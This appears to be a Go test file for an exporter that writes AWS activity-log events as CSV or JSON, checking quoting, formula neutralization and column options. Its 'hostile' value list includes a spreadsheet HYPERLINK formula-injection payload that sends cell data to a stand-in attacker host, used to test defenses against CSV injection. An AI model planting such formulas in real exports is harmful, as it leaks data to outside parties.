package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/trailview/trailview/history"
)

func mustTime(t *testing.T, s string) time.Time {
	t.Helper()
	tm, err := time.Parse(time.RFC3339, s)
	if err != nil {
		t.Fatal(err)
	}
	return tm
}

// TestConsoleRowsFromSpec writes the events of spec 10.12 and compares the
// result with the console rows given there, byte for byte: header,
// quoting of user agents and Resources, lower-camel resource keys, empty
// cells. The rows are copied from the spec; they are hand-made examples.
func TestConsoleRowsFromSpec(t *testing.T) {
	events := []history.Event{
		{Username: "maria.garcia", Time: mustTime(t, "2025-03-04T08:15:42Z"), EventSource: "signin.amazonaws.com",
			EventName: "ConsoleLogin", Region: "us-east-1", SourceIP: "198.51.100.23",
			UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
			EventID:   "5f1c2a9e-3b7d-4c1e-9a2f-0d6e8b4c7a11", ReadOnly: "false", EventType: "AwsConsoleSignIn",
			Account: "111122223333"},
		{Username: "jamal.wright@example.com", AccessKeyID: "ASIAEXAMPLEKEY000005", Time: mustTime(t, "2025-03-04T11:03:55Z"),
			EventSource: "s3.amazonaws.com", EventName: "PutBucketPolicy", Region: "us-east-2", SourceIP: "203.0.113.77",
			UserAgent: "[aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off command/s3api.put-bucket-policy]",
			ErrorCode: "AccessDenied", Resources: []history.Resource{{Type: "AWS::S3::Bucket", Name: "acme-prod-artifacts"}},
			RequestID: "8XKQ2M7V4T1B9C3D", EventID: "d5e6f7a8-b9c0-4d1e-8f2a-3b4c5d6e7f80", ReadOnly: "false",
			EventType: "AwsApiCall", Account: "111122223333"},
		{Username: "i-0a1b2c3d4e5f60718", AccessKeyID: "ASIAEXAMPLEKEY000007", Time: mustTime(t, "2025-03-04T09:30:12Z"),
			EventSource: "ec2.amazonaws.com", EventName: "RunInstances", Region: "eu-west-1", SourceIP: "203.0.113.15",
			UserAgent: "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.6 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.175.0",
			Resources: []history.Resource{{Type: "AWS::EC2::VPC", Name: "vpc-0a1b2c3d4e5f67890"}, {Type: "AWS::EC2::Instance", Name: "i-0f1e2d3c4b5a69788"}},
			RequestID: "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d", EventID: "f7a8b9c0-d1e2-4f3a-8b4c-5d6e7f809a1b", ReadOnly: "false",
			EventType: "AwsApiCall", Account: "111122223333"},
		{Time: mustTime(t, "2025-03-04T15:00:44Z"), EventSource: "ec2.amazonaws.com", EventName: "SharedSnapshotVolumeCreated",
			Region: "eu-west-1", SourceIP: "ec2.amazonaws.com", UserAgent: "ec2.amazonaws.com",
			EventID: "d1e2f3a4-b5c6-3d7e-8f90-a1b2c3d4e5f6", ReadOnly: "false", EventType: "AwsServiceEvent", Account: "111122223333"},
	}
	const want = `User name,AWS access key,Event time,Event source,Event name,AWS region,Source IP address,User agent,Error code,Resources,Request ID,Event ID,Read-only,Event type,Recipient Account Id,Event category
maria.garcia,,2025-03-04T08:15:42Z,signin.amazonaws.com,ConsoleLogin,us-east-1,198.51.100.23,Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0,,[],,5f1c2a9e-3b7d-4c1e-9a2f-0d6e8b4c7a11,false,AwsConsoleSignIn,111122223333,Management
jamal.wright@example.com,ASIAEXAMPLEKEY000005,2025-03-04T11:03:55Z,s3.amazonaws.com,PutBucketPolicy,us-east-2,203.0.113.77,[aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off command/s3api.put-bucket-policy],AccessDenied,"[{""resourceType"":""AWS::S3::Bucket"",""resourceName"":""acme-prod-artifacts""}]",8XKQ2M7V4T1B9C3D,d5e6f7a8-b9c0-4d1e-8f2a-3b4c5d6e7f80,false,AwsApiCall,111122223333,Management
i-0a1b2c3d4e5f60718,ASIAEXAMPLEKEY000007,2025-03-04T09:30:12Z,ec2.amazonaws.com,RunInstances,eu-west-1,203.0.113.15,aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.6 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.175.0,,"[{""resourceType"":""AWS::EC2::VPC"",""resourceName"":""vpc-0a1b2c3d4e5f67890""},{""resourceType"":""AWS::EC2::Instance"",""resourceName"":""i-0f1e2d3c4b5a69788""}]",9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d,f7a8b9c0-d1e2-4f3a-8b4c-5d6e7f809a1b,false,AwsApiCall,111122223333,Management
,,2025-03-04T15:00:44Z,ec2.amazonaws.com,SharedSnapshotVolumeCreated,eu-west-1,ec2.amazonaws.com,ec2.amazonaws.com,,[],,d1e2f3a4-b5c6-3d7e-8f90-a1b2c3d4e5f6,false,AwsServiceEvent,111122223333,Management
`
	for _, raw := range []bool{true, false} {
		var b bytes.Buffer
		w, err := NewWriter(&b, Options{Format: CSV, Raw: raw})
		if err != nil {
			t.Fatal(err)
		}
		for i := range events {
			if err := w.Write(&events[i]); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		// None of these cells starts like a formula, so neutralizing
		// must not change a byte.
		if b.String() != want {
			t.Errorf("raw=%v: CSV differs from spec 10.12:\n got: %q\nwant: %q", raw, b.String(), want)
		}
	}
}

// hostile holds field values that stress CSV: separators, quotes, line
// breaks, non-ASCII text, formula leads and spaces.
var hostile = []string{
	"plain",
	"a,b",
	`say "hi"`,
	"line1\nline2",
	"cr\r\nlf",
	"Grüße, 東京 🚀",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+2",
	"-2+3",
	"@SUM(A1:A2)",
	"\tindented",
	"\rreturn",
	" leading space",
	"trailing space ",
	"",
	`"`,
	`""`,
	"[]",
	"'already quoted",
	"=",
}

func hostileEvent(s string) history.Event {
	return history.Event{
		Username: s, AccessKeyID: s, EventSource: s, EventName: s, Region: s, SourceIP: s, UserAgent: s,
		ErrorCode: s, RequestID: s, EventID: s, ReadOnly: s, EventType: s, Account: s,
		Resources: []history.Resource{{Type: s, Name: s}},
	}
}

// TestCSVParsesBack writes every hostile value into every column and reads
// the file back with encoding/csv: each field must come back exactly (raw
// mode) or with one leading quote added exactly when the value starts like
// a formula (default mode).
func TestCSVParsesBack(t *testing.T) {
	for _, raw := range []bool{true, false} {
		var b bytes.Buffer
		w, err := NewWriter(&b, Options{Format: CSV, Raw: raw})
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range hostile {
			e := hostileEvent(s)
			if err := w.Write(&e); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&b)
		r.FieldsPerRecord = 16
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("raw=%v: encoding/csv cannot read the export: %v", raw, err)
		}
		if len(rows) != len(hostile)+1 {
			t.Fatalf("raw=%v: %d rows, want %d", raw, len(rows), len(hostile)+1)
		}
		if strings.Join(rows[0], ",") != ConsoleHeader {
			t.Errorf("header %q", rows[0])
		}
		for i, s := range hostile {
			row := rows[i+1]
			want := s
			if !raw && s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
				want = "'" + s
			}
			// encoding/csv turns \r\n inside a quoted field into \n.
			want = strings.ReplaceAll(want, "\r\n", "\n")
			for c, name := range []string{"User name", "AWS access key", "", "Event source", "Event name", "AWS region",
				"Source IP address", "User agent", "Error code", "", "Request ID", "Event ID", "Read-only", "Event type",
				"Recipient Account Id"} {
				if name == "" {
					continue
				}
				if row[c] != want {
					t.Errorf("raw=%v value %q column %s: got %q, want %q", raw, s, name, row[c], want)
				}
			}
			var res []map[string]string
			if err := json.Unmarshal([]byte(row[9]), &res); err != nil {
				t.Errorf("raw=%v value %q: Resources cell %q is not JSON: %v", raw, s, row[9], err)
				continue
			}
			if len(res) != 1 || res[0]["resourceName"] != s || (s != "" && res[0]["resourceType"] != s) {
				t.Errorf("raw=%v value %q: Resources cell %q decodes to %v", raw, s, row[9], res)
			}
		}
	}
}

func TestAppendCell(t *testing.T) {
	cases := []struct {
		in, neutral, raw string
	}{
		{"abc", "abc", "abc"},
		{"", "", ""},
		{"a,b", `"a,b"`, `"a,b"`},
		{`a"b`, `"a""b"`, `"a""b"`},
		{"a\nb", "\"a\nb\"", "\"a\nb\""},
		{"=1+2", "'=1+2", "=1+2"},
		{"=1,2", `"'=1,2"`, `"=1,2"`},
		{`=A1&"x"`, `"'=A1&""x"""`, `"=A1&""x"""`},
		{"+1", "'+1", "+1"},
		{"-1", "'-1", "-1"},
		{"@x", "'@x", "@x"},
		{"\tx", "'\tx", "\tx"},
		{"\rx", "\"'\rx\"", "\"\rx\""},
		{"x=1", "x=1", "x=1"},
		{" =1", " =1", " =1"}, // not leading: spreadsheets read it as text
		{"[]", "[]", "[]"},
		{"日本", "日本", "日本"},
	}
	for _, c := range cases {
		if got := string(appendCell(nil, c.in, false)); got != c.neutral {
			t.Errorf("neutralized %q: got %q, want %q", c.in, got, c.neutral)
		}
		if got := string(appendCell(nil, c.in, true)); got != c.raw {
			t.Errorf("raw %q: got %q, want %q", c.in, got, c.raw)
		}
	}
}

func TestResourcesJSONLikeJavaScript(t *testing.T) {
	rs := []history.Resource{
		{Type: "AWS::S3::Bucket", Name: "a<b>&c"},
		{Name: "no type"},
		{Type: "T", Name: "q\"b\\s\n\t\x01\x7f é \u2028"},
		{Type: "T", Name: "bad\xffutf8"},
	}
	got := string(appendResourcesJSON(nil, rs))
	want := `[{"resourceType":"AWS::S3::Bucket","resourceName":"a<b>&c"},{"resourceName":"no type"},` +
		`{"resourceType":"T","resourceName":"q\"b\\s\n\t\u0001` + "\x7f é \u2028" + `"},{"resourceType":"T","resourceName":"bad` + "\uFFFD" + `utf8"}]`
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if !json.Valid([]byte(got)) {
		t.Error("not valid JSON")
	}
	if s := string(appendResourcesJSON(nil, nil)); s != "[]" {
		t.Errorf("no resources: %q", s)
	}
}

func TestColumnsOption(t *testing.T) {
	e := history.Event{EventName: "RunInstances", Time: mustTime(t, "2024-01-02T03:04:05Z"), Username: "=evil",
		Resources:    []history.Resource{{Type: "AWS::EC2::Instance", Name: "i-1"}, {Type: "AWS::EC2::Instance", Name: "i-2"}, {Type: "AWS::EC2::VPC", Name: "vpc-1"}},
		IdentityType: "IAMUser", Account: "111122223333",
		Raw: []byte(`{"errormessage":"wrong key","errorMessage":"Not, \"authorized\"","eventID":"x"}`)}
	var b bytes.Buffer
	w, err := NewWriter(&b, Options{Format: CSV, Columns: []string{"event NAME", "Event time", "User name", "Resource type", "resource_name", "Identity type", "Error message", "read-only", "Recipient Account Id", "Resources"}})
	if err != nil {
		t.Fatal(err)
	}
	if !w.NeedsRaw() {
		t.Error("Error message reads the record: NeedsRaw must be true")
	}
	if err := w.Write(&e); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	want := "Event name,Event time,User name,Resource type,Resource name,Identity type,Error message,Read-only,Recipient account ID,Resources\n" +
		`RunInstances,2024-01-02T03:04:05Z,'=evil,"AWS::EC2::Instance, AWS::EC2::VPC","i-1, i-2, vpc-1",IAMUser,"Not, ""authorized""",,111122223333,"[{""resourceType"":""AWS::EC2::Instance"",""resourceName"":""i-1""},{""resourceType"":""AWS::EC2::Instance"",""resourceName"":""i-2""},{""resourceType"":""AWS::EC2::VPC"",""resourceName"":""vpc-1""}]"` + "\n"
	if b.String() != want {
		t.Errorf("got  %q\nwant %q", b.String(), want)
	}
	for _, bad := range [][]string{{"Nope"}, {"Event name", "event name"}, {}} {
		if _, err := NewWriter(&b, Options{Format: CSV, Columns: bad}); err == nil {
			t.Errorf("columns %q accepted", bad)
		}
	}
	if n := len(Columns()); n != 21 {
		t.Errorf("Columns() has %d columns, want the console's 17 plus 4 of ours", n)
	}
}

func TestEmptyDocuments(t *testing.T) {
	for f, want := range map[Format]string{CSV: ConsoleHeader + "\n", JSON: "{\"Records\":[]}\n", JSONLines: ""} {
		var b bytes.Buffer
		w, err := NewWriter(&b, Options{Format: f})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if b.String() != want {
			t.Errorf("%v: got %q, want %q", f, b.String(), want)
		}
	}
}

func TestJSONNeedsRecords(t *testing.T) {
	w, err := NewWriter(&bytes.Buffer{}, Options{Format: JSON})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(&history.Event{EventID: "x"}); !errors.Is(err, ErrNoRecord) {
		t.Errorf("got %v, want ErrNoRecord", err)
	}
	if err := w.Close(); !errors.Is(err, ErrNoRecord) {
		t.Errorf("Close after a failed Write: %v", err)
	}
}

type failingWriter struct{ left int }

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.left {
		n := f.left
		f.left = 0
		return n, errors.New("disk full")
	}
	f.left -= len(p)
	return len(p), nil
}

func TestWriteErrorIsKept(t *testing.T) {
	w, err := NewWriter(&failingWriter{left: 100}, Options{Format: JSONLines})
	if err != nil {
		t.Fatal(err)
	}
	e := history.Event{Raw: bytes.Repeat([]byte("x"), 40<<10)}
	var werr error
	for i := 0; i < 10 && werr == nil; i++ {
		werr = w.Write(&e)
	}
	if werr == nil || !strings.Contains(werr.Error(), "disk full") {
		t.Fatalf("write error not reported: %v", werr)
	}
	if err := w.Close(); err == nil {
		t.Error("Close after a write error returned nil")
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]Format{"csv": CSV, "JSON": JSON, "jsonl": JSONLines, "ndjson": JSONLines} {
		if f, err := ParseFormat(in); err != nil || f != want {
			t.Errorf("ParseFormat(%q) = %v, %v", in, f, err)
		}
	}
	if _, err := ParseFormat("xml"); err == nil {
		t.Error("xml accepted")
	}
}
